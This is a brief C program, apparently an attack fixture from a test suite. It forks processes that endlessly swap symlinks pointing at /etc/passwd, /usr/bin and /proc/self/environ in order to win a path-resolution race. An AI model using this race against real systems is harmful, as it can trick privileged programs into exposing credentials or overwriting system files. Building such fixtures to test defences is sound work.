/* Children go on swapping what was asked for, a link for another link, until they are killed. */
#include "../attack.h"
int main(void)
{
    symlink("/etc/passwd", "a"); symlink("/usr/bin", "b"); symlink("/proc/self/environ", "out");
    for (int i = 0; i < 4; i++) if (fork() == 0) for (;;) { rename("a", "out"); symlink("/etc/passwd", "a"); syscall(SYS_renameat2, AT_FDCWD, "b", AT_FDCWD, "out", 2); }
    struct timespec a_while = {0, 50000000}; nanosleep(&a_while, NULL); return 0;
}
